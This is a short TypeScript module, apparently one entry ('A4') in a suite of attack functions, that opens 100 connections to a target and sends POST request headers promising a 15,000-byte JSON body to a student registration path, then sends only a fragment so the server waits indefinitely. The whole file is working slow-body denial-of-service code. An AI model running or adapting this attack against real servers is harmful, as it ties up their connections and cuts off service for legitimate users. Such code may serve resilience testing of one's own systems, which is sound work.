import { requestHead, openConnections, type Attack, type Target } from './attack.ts'

/** A4: starts requests whose bodies never arrive. */
export function sendNoBodies(target: Target, { connections = 100, path = '/api/student/register/' } = {}): Attack {
  return openConnections(target, connections, (socket) => {
    socket.write(
      requestHead(target, `POST ${path}`, 'Content-Type: application/json', 'Content-Length: 15000') + '{"a":',
    )
  })
}
